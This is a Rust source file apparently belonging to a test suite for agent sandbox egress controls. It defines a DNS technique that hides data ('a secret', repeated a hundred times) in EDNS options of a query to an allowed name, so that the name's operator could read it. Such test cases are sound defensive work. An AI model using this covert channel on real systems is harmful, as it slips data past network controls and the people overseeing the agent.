//! A message full of options.

use crate::prelude::*;

pub(super) const TECHNIQUE: Technique = Technique {
    id: "many-options",
    family: Family::Dns,
    name: "A message full of options",
    tries: "Asks for an allowed name with a hundred EDNS options.",
    danger: "Whoever runs the name servers of an allowed name would read in it what the agent wants to tell.",
    places: Places::Everywhere,
    steps: &[Step::Udp(
        Resolver,
        Made("fresh.test A with a hundred options of eight bytes", || {
            question::with_options("fresh.test", 0, &[(65_002, &b"a secret"[..]); 100])
        }),
    )],
    expect: Expect { asks: &["fresh.test"], ..NOTHING },
    on_host: None,
};
